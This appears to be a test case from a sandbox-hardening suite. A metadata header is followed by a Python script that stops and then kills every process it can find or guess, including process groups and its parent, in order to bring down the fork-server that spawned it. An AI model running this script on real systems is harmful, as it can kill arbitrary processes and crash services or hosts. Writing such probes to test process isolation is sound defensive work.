# id: zygote-signal-every-pid
# category: process
# description: stop, then kill, every pid it can find or guess (-1, 1 to 4096 and a sample up to pid_max, its parent, their process groups), to take the fork-server that made it down with it
# source: kill(2), killpg(2); a fork-server is one kill(-1) away from children that share its pid namespace
# detect: zygote+supervisor (the host checks the zygote lives on with the same pid; a weak target's host dies)
# exclusive: yes
import os
import signal

me, group, session = os.getpid(), os.getpgrp(), os.getsid(0)
try:
    with open('/proc/sys/kernel/pid_max') as f:
        pid_max = int(f.read())
except (OSError, ValueError):
    pid_max = 4194304
guesses = sorted(set(range(1, 4097)) | set(range(4097, pid_max, 997)) | {os.getppid(), pid_max - 1})
for sig in (signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(-1, sig)
    except OSError:
        pass
    for pid in guesses:
        if pid != me:
            try:
                os.kill(pid, sig)
            except OSError:
                pass
        if pid not in (group, session):
            try:
                os.killpg(pid, sig)
            except OSError:
                pass
print('signalled', len(guesses), 'pids')
